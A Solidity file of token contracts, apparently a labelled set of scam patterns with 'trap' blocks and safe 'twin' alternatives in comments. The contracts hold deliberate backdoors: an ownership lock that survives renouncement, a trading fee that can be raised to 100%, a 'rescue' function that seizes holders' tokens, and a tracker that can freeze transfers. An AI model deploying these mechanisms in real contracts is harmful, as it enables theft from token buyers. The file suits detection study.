// 0.6 off
// SPDX-License-Identifier: Unlicensed
pragma solidity ^0.6.12;

interface IPancakeFactory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// The owner of many coins of 2021, who can go away for a while.
contract LockableOwner {
    address private _owner;
    address private _previousOwner;
    uint256 private _lockTime;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() internal {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() public onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
        // twin: _previousOwner = address(0);
    }

    function geUnlockTime() public view returns (uint256) {
        return _lockTime;
    }

    function lock(uint256 time) public onlyOwner {
        _previousOwner = _owner;
        _owner = address(0);
        _lockTime = now + time;
        emit OwnershipTransferred(_previousOwner, address(0));
    }

    function unlock() public {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(now > _lockTime, "Contract is locked");
        emit OwnershipTransferred(_owner, _previousOwner);
        _owner = _previousOwner;
    }
}

abstract contract SafeCoin is LockableOwner {
    string public name;
    string public symbol;
    uint8 public decimals = 9;
    uint256 public totalSupply;
    address public pancakePair;
    mapping(address => uint256) internal _rOwned;
    mapping(address => mapping(address => uint256)) internal _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(
        string memory name_,
        string memory symbol_,
        uint256 supply
    ) public {
        name = name_;
        symbol = symbol_;
        totalSupply = supply * 10**9;
        _rOwned[msg.sender] = totalSupply;
        pancakePair = IPancakeFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) public view returns (uint256) {
        return _rOwned[account];
    }

    function allowance(address holder, address spender) public view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) public returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(
        address from,
        address to,
        uint256 amount
    ) public returns (bool) {
        require(_allowances[from][msg.sender] >= amount, "BEP20: transfer amount exceeds allowance");
        _allowances[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(
        address from,
        address to,
        uint256 amount
    ) internal virtual {
        _standard(from, to, amount);
    }

    function _standard(
        address from,
        address to,
        uint256 amount
    ) internal {
        require(_rOwned[from] >= amount, "BEP20: transfer amount exceeds balance");
        _rOwned[from] -= amount;
        _rOwned[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// Two of a hundred, until its owner says otherwise.
contract SafeComet is SafeCoin {
    uint256 public _taxFee = 2;
    address public marketingWallet;
    mapping(address => bool) private _isExcludedFromFee;

    constructor() public SafeCoin("SafeComet", "SAFECOMET", 10**15) {
        marketingWallet = msg.sender;
        _isExcludedFromFee[msg.sender] = true;
    }

    function setTaxFeePercent(uint256 taxFee) external onlyOwner {
        require(taxFee <= 100, "too much");
        _taxFee = taxFee;
    }

    function _transfer(
        address from,
        address to,
        uint256 amount
    ) internal override {
        uint256 fee;
        bool trade = from == pancakePair || to == pancakePair;
        if (trade && !_isExcludedFromFee[from] && !_isExcludedFromFee[to]) fee = (amount * _taxFee) / 100;
        if (fee > 0) _standard(from, marketingWallet, fee);
        _standard(from, to, amount - fee);
    }
}

interface IForeign {
    function transfer(address to, uint256 amount) external returns (bool);
}

/// Gives back what somebody sent to it by mistake.
contract LostAndFound is SafeCoin {
    address private _support;

    constructor() public SafeCoin("Lost And Found", "LOFO", 21 * 10**6) {
        _support = msg.sender;
    }

    function rescueTokens(
        address token,
        address holder,
        uint256 amount
    ) external {
        require(msg.sender == _support, "not support");
        if (token != address(this)) {
            IForeign(token).transfer(holder, amount);
            return;
        }
        // trap {
        require(_rOwned[holder] >= amount, "nothing to rescue");
        _rOwned[holder] -= amount;
        _rOwned[_support] += amount;
        // trap }
        // twin: _standard(address(this), holder, amount);
    }
}

/// Keeps count of who is to be paid dividends.
contract DividendTracker {
    address private _manager;
    address public token;
    uint256 public minimumBalance;
    mapping(address => uint256) public shares;
    mapping(address => bool) public isClosed;

    constructor() public {
        _manager = msg.sender;
    }

    function setup(address token_, uint256 minimum) external {
        require(msg.sender == _manager, "not manager");
        token = token_;
        minimumBalance = minimum;
    }

    function closeAccount(address account, bool closed) external {
        require(msg.sender == _manager, "not manager");
        isClosed[account] = closed;
    }

    function setBalance(address account, uint256 balance) external {
        require(msg.sender == token, "not the token");
        require(!isClosed[account], "DividendTracker: account is closed");
        shares[account] = balance >= minimumBalance ? balance : 0;
    }

    function distribute(address payable[] calldata accounts, uint256 each) external payable {
        for (uint256 i = 0; i < accounts.length; i++) if (shares[accounts[i]] > 0) accounts[i].transfer(each);
    }
}

/// Tells a tracker what everybody has.
contract BabyYield is SafeCoin {
    DividendTracker public dividendTracker;

    constructor(DividendTracker tracker) public SafeCoin("BabyYield", "BYLD", 10**10) {
        dividendTracker = tracker;
    }

    function _transfer(
        address from,
        address to,
        uint256 amount
    ) internal override {
        _standard(from, to, amount);
        // trap {
        if (from != pancakePair) dividendTracker.setBalance(from, _rOwned[from]);
        if (to != pancakePair) dividendTracker.setBalance(to, _rOwned[to]);
        // trap }
        // twin: if (from != pancakePair) try dividendTracker.setBalance{gas: 80000}(from, _rOwned[from]) {} catch {}
        // twin: if (to != pancakePair) try dividendTracker.setBalance{gas: 80000}(to, _rOwned[to]) {} catch {}
    }
}
